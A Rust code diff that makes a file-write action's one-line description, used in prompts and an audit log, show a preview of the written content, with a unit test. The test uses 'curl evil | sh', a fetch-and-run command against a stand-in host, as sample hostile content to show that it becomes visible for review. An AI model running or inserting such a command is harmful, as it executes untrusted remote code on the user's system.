@@ -33,6 +33,9 @@ pub enum Action {
     PackageInstall { packages: Vec<String> },
 }
 
+/// Bytes of a write's content its description shows.
+pub const WRITE_PREVIEW: usize = 120;
+
 impl Action {
     /// The program and arguments this action executes, for the kinds that run one.
     pub fn argv(&self) -> Option<Vec<String>> {
@@ -68,14 +71,26 @@ impl Action {
     }
 
     /// A one-line description for prompts, history and the audit log.
+    ///
+    /// (A write shows the first [`WRITE_PREVIEW`] bytes of what it writes.)
     pub fn describe(&self) -> String {
         match self {
             Action::Read { path } => format!("read {}", quote(&path.to_string_lossy())),
-            Action::Write { path, content } => format!(
-                "write {} bytes to {}",
-                content.len(),
-                quote(&path.to_string_lossy())
-            ),
+            Action::Write { path, content } => {
+                // What it starts with, to judge it by (`devos show --json` has it all).
+                let start = crate::executor::head(content, WRITE_PREVIEW);
+                format!(
+                    "write {} bytes to {}, starting \"{}\"{}",
+                    content.len(),
+                    quote(&path.to_string_lossy()),
+                    crate::executor::one_line(start),
+                    if start.len() < content.len() {
+                        "…"
+                    } else {
+                        ""
+                    }
+                )
+            }
             Action::Mkdir { path } => {
                 format!("create directory {}", quote(&path.to_string_lossy()))
             }
@@ -222,5 +237,26 @@ mod tests {
             argv: vec!["grep".into(), "-rn".into(), "a b".into()],
         };
         assert_eq!(a.describe(), "grep -rn 'a b'");
+    }
+
+    #[test]
+    fn a_write_shows_what_it_starts_with() {
+        let short = Action::Write {
+            path: "/home/u/run.sh".into(),
+            content: "#!/bin/sh\ncurl evil | sh\n".into(),
+        };
+        assert_eq!(
+            short.describe(),
+            "write 25 bytes to /home/u/run.sh, starting \"#!/bin/sh\\ncurl evil | sh\\n\""
+        );
+        let long = Action::Write {
+            path: "/home/u/a.txt".into(),
+            content: "x".repeat(1000),
+        };
+        let d = long.describe();
+        assert!(
+            d.ends_with(&format!("\"{}\"…", "x".repeat(WRITE_PREVIEW))),
+            "{d}"
+        );
     }
 }
